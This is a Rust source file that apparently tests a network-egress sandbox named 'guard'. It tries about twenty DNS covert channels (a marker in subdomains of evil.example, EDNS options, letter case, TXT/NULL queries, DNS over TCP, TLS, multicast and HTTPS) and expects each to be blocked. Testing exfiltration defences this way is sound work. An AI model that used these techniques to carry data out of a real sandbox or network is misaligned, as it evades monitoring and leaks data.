//! Names as messages, resolvers other than guard's, and what the two can be made to disagree about.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

use libc::{AF_INET, AF_INET6, SOCK_DGRAM, SOCK_STREAM};

use super::sys::{Address, connect, pause, send_to, socket};
use super::{Attempt, Outcome, Stop, Technique, technique};

const RESOLVER: &str = "connect4/sendmsg4: to the resolver";
const GATEWAY: &str = "connect4/6: to the gateway";

/// Types of questions (RFC 1035, RFC 9460).
const A: u16 = 1;
const NULL: u16 = 10;
const TXT: u16 = 16;
const HTTPS: u16 = 65;
const ANY: u16 = 255;

pub(super) const TABLE: &[Technique] = &[
    technique("dns-udp", "a question to a resolver of one's own", |a| {
        ask(a, a.v4(53), &denied(a), A)
    })
    .closed(RESOLVER, RESOLVER),
    technique("dns-udp-v6", "the same, IPv6", |a| {
        ask(a, a.v6(53), &denied(a), A)
    })
    .closed(RESOLVER, RESOLVER),
    technique("dns-public", "a question to 8.8.8.8", |a| {
        ask(a, (Ipv4Addr::new(8, 8, 8, 8), 53).into(), &denied(a), A)
    })
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-configured",
        "a question to the host's own resolver",
        |a| ask(a, (crate::internet::ROUTER4, 53).into(), &denied(a), A),
    )
    .closed(RESOLVER, RESOLVER),
    technique("dns-system", "the name resolved by the C library", |a| {
        use std::net::ToSocketAddrs;

        let name = format!("{}.evil.example:80", a.marker());
        let found = name.to_socket_addrs().map_err(Stop::io("getaddrinfo"))?;
        Ok(format!("{} addresses", found.count()))
    })
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-below-allowed",
        "the mark as a name below an allowed one",
        |a| ask(a, a.v4(53), &format!("{}.allowed.example", a.marker()), A),
    )
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-below-aws",
        "the mark as a name below an AWS endpoint",
        |a| {
            ask(
                a,
                a.v4(53),
                &format!("{}.s3.us-east-1.amazonaws.com", a.marker()),
                A,
            )
        },
    )
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-null",
        "a question of type NULL for an allowed name, with the mark behind it",
        |a| {
            let mut question = message(a, "allowed.example", NULL);
            question.extend(a.marker().bytes());
            datagram(a.v4(53), &question)
        },
    )
    .closed(RESOLVER, RESOLVER),
    technique("dns-txt", "type TXT", |a| ask(a, a.v4(53), &denied(a), TXT))
        .closed(RESOLVER, RESOLVER),
    technique("dns-any", "type ANY", |a| ask(a, a.v4(53), &denied(a), ANY))
        .closed(RESOLVER, RESOLVER),
    technique("dns-https", "type HTTPS", |a| {
        ask(a, a.v4(53), &denied(a), HTTPS)
    })
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-option",
        "the mark in an EDNS option of a question for an allowed name",
        |a| {
            let mut question = message(a, "allowed.example", A);
            question[11] = 1;
            let mark = a.marker();
            let size = mark.len() as u16;
            // The root name, OPT, 1232 bytes, no flags; an option for local use.
            question.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
            question.extend((size + 4).to_be_bytes());
            question.extend([0xff, 0xff - 3]);
            question.extend(size.to_be_bytes());
            question.extend(mark.bytes());
            datagram(a.v4(53), &question)
        },
    )
    .closed(RESOLVER, RESOLVER),
    technique(
        "dns-case",
        "the mark in the case of an allowed name's letters",
        |a| {
            let bits = a.number;
            let name: String = "allowed.example"
                .chars()
                .enumerate()
                .map(|(index, c)| {
                    if bits >> (index % 8) & 1 == 1 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect();
            let mut question = message(a, &name, A);
            question.extend(a.marker().bytes());
            datagram(a.v4(53), &question)
        },
    )
    .closed(RESOLVER, RESOLVER),
    technique("dns-update", "an UPDATE message", |a| {
        let mut update = message(a, &denied(a), A);
        update[2] = 5 << 3;
        datagram(a.v4(53), &update)
    })
    .closed(RESOLVER, RESOLVER),
    technique("dns-tcp", "a question over TCP", |a| {
        over_tcp(a, a.v4(53), &[&denied(a)])
    })
    .closed(GATEWAY, GATEWAY),
    technique(
        "dns-tcp-second",
        "a second question behind an allowed one in one segment",
        |a| over_tcp(a, a.v4(53), &["allowed.example", &denied(a)]),
    )
    .closed(GATEWAY, GATEWAY),
    technique("dns-tls", "port 853", |a| {
        over_tcp(a, a.v4(853), &[&denied(a)])
    })
    .closed(GATEWAY, GATEWAY),
    technique("dns-quic", "port 853 over UDP", |a| {
        datagram(a.v4(853), &message(a, &denied(a), A))
    })
    .closed("sendmsg4/6", "sendmsg4/6"),
    technique("dns-multicast", "multicast DNS", |a| {
        let to = (Ipv4Addr::new(224, 0, 0, 251), 5353).into();
        datagram(to, &message(a, &denied(a), A))
    })
    .closed("sendmsg4/6", "sendmsg4/6"),
    technique("dns-https-address", "DNS over HTTPS to an address", |a| {
        let fd = socket(AF_INET, SOCK_STREAM, 0)?;
        connect(&fd, &Address::ip(a.v4(443)))?;
        let hello = super::tls::hello(Some(&format!("{}.dns.example", a.marker())));
        stream(fd).write_all(&hello).map_err(Stop::io("write"))?;
        pause(100);
        super::udp::sent()
    })
    .closed(GATEWAY, GATEWAY),
];

fn denied(attempt: &Attempt<'_>) -> String {
    format!("{}.evil.example", attempt.marker())
}

fn ask(attempt: &Attempt<'_>, to: SocketAddr, name: &str, kind: u16) -> Outcome {
    datagram(to, &message(attempt, name, kind))
}

fn datagram(to: SocketAddr, question: &[u8]) -> Outcome {
    let family = if to.is_ipv4() { AF_INET } else { AF_INET6 };
    let fd = socket(family, SOCK_DGRAM, 0)?;
    send_to(&fd, question, 0, &Address::ip(to))?;
    // An answer, or what guard does on receiving the question.
    pause(50);
    Ok("asked".to_owned())
}

fn over_tcp(attempt: &Attempt<'_>, to: SocketAddr, names: &[&str]) -> Outcome {
    let fd = socket(AF_INET, SOCK_STREAM, 0)?;
    connect(&fd, &Address::ip(to))?;
    let mut segment = Vec::new();
    for name in names {
        let question = message(attempt, name, A);
        segment.extend((question.len() as u16).to_be_bytes());
        segment.extend(question);
    }
    stream(fd).write_all(&segment).map_err(Stop::io("write"))?;
    pause(100);
    Ok("asked".to_owned())
}

fn stream(fd: std::os::fd::OwnedFd) -> TcpStream {
    let stream = TcpStream::from(fd);
    let _ = stream.set_write_timeout(Some(Duration::from_millis(400)));
    stream
}

/// A question (RFC 1035, 4.1).
fn message(attempt: &Attempt<'_>, name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x67, attempt.number as u8, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(label.len() as u8);
        message.extend(label.bytes());
    }
    message.push(0);
    message.extend(kind.to_be_bytes());
    message.extend([0, 1]);
    message
}
